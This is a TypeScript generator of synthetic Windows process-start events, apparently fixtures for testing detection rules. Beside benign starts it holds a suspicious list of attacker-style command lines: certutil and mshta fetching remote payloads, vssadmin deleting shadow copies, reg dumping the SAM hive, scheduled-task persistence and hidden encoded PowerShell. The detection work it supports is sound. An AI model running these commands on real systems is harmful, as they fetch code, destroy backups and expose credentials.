import { hex, pick, whole } from '../random/random.ts';
import type { Random } from '../random/random.ts';
import { documentName, privateAddress, userName, word } from './vocabulary.ts';

/** A program start: its image, what its file calls itself, the parent, and what is typed after its name. */
export interface ProgramStart {
  readonly image: string;
  readonly originalName: string;
  readonly parentImage: string;
  readonly argumentsText: string;
}

const system = String.raw`C:\Windows\System32`;
const explorer = String.raw`C:\Windows\explorer.exe`;
const services = String.raw`C:\Windows\System32\services.exe`;
const shell = String.raw`C:\Windows\System32\cmd.exe`;
const powershell = String.raw`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`;

type MakeStart = (random: Random) => ProgramStart;

function start(
  image: string,
  originalName: string,
  parentImage: string,
  argumentsText: (random: Random) => string,
): MakeStart {
  return (random) => ({
    image,
    originalName,
    parentImage,
    argumentsText: argumentsText(random),
  });
}

const everyday: readonly [MakeStart, ...MakeStart[]] = [
  start(
    String.raw`C:\Program Files\Northlight\Writer\writer.exe`,
    'writer.exe',
    explorer,
    (random) =>
      `/open "C:\\Users\\${userName(random)}\\Documents\\${documentName(random)}.odt" /recent ${whole(random, 1, 20)}`,
  ),
  start(
    String.raw`C:\Program Files\Northlight\Tables\tables.exe`,
    'tables.exe',
    explorer,
    (random) =>
      `"\\\\files.example.net\\teams\\${word(random)}\\${documentName(random)}.ods" --sheet=${whole(random, 1, 12)}`,
  ),
  start(
    String.raw`C:\Program Files\Riverbank\Browser\browser.exe`,
    'browser.exe',
    explorer,
    (random) =>
      `--type=renderer --lang=en-GB --device-scale-factor=1 --renderer-client-id=${whole(random, 4, 900)} --field-trial-handle=${whole(random, 1000, 9999)},${hex(random, 16)}`,
  ),
  start(
    String.raw`${system}\svchost.exe`,
    'svchost.exe',
    services,
    (random) => `-k netsvcs -p -s ${pick(random, ['Themes', 'UserManager', 'ProfSvc', 'gpsvc', 'SENS'])}`,
  ),
  start(String.raw`${system}\taskhostw.exe`, 'taskhostw.exe', String.raw`${system}\svchost.exe`, (random) =>
    pick(random, ['', 'Install', 'SYSTEM', 'KEYROAMING']),
  ),
  start(
    String.raw`C:\Program Files\Northlight\Sync\sync-agent.exe`,
    'sync-agent.exe',
    services,
    (random) =>
      `--account ${userName(random)} --journal ${hex(random, 24)} --server ${privateAddress(random)}:8443 --resume`,
  ),
  start(
    String.raw`C:\Tools\builder\bin\compile.exe`,
    'compile.exe',
    String.raw`C:\Tools\builder\bin\builder.exe`,
    (random) =>
      `-o D:\\work\\${word(random)}\\out\\${documentName(random)}.obj -O2 -Wall -I D:\\work\\${word(random)}\\include`,
  ),
];

const suspicious: readonly [MakeStart, ...MakeStart[]] = [
  start(
    powershell,
    'PowerShell.EXE',
    shell,
    (random) =>
      `-NoProfile -WindowStyle hidden -EncodedCommand ${Buffer.from(documentName(random), 'utf16le').toString('base64')}`,
  ),
  start(String.raw`${system}\whoami.exe`, 'whoami.exe', powershell, () => '/all /fo list'),
  start(
    String.raw`${system}\certutil.exe`,
    'CertUtil.exe',
    shell,
    (random) =>
      `-urlcache -split -f http://${privateAddress(random)}/${word(random)}.bin C:\\Users\\Public\\${documentName(random)}.exe`,
  ),
  start(
    String.raw`${system}\vssadmin.exe`,
    'VSSADMIN.EXE',
    shell,
    () => 'delete shadows /for=C: /all /quiet',
  ),
  start(
    String.raw`${system}\reg.exe`,
    'reg.exe',
    shell,
    (random) => `save HKLM\\SAM C:\\Windows\\Temp\\${documentName(random)}.hiv`,
  ),
  start(
    String.raw`${system}\schtasks.exe`,
    'schtasks.exe',
    shell,
    (random) =>
      `/create /sc minute /mo ${whole(random, 5, 60)} /tn ${documentName(random)} /tr C:\\Users\\Public\\${word(random)}.exe`,
  ),
  start(
    String.raw`${system}\net.exe`,
    'net.exe',
    shell,
    (random) =>
      `${pick(random, ['group "domain admins" /domain', 'localgroup administrators', 'user /domain'])}`,
  ),
  start(
    String.raw`${system}\mshta.exe`,
    'MSHTA.EXE',
    explorer,
    (random) => `http://${privateAddress(random)}/${documentName(random)}.hta`,
  ),
];

/** A start as any working day brings thousands. */
export function everydayStart(random: Random): ProgramStart {
  return pick(random, everyday)(random);
}

/** A start that rules for process creation are there for. */
export function suspiciousStart(random: Random): ProgramStart {
  return pick(random, suspicious)(random);
}
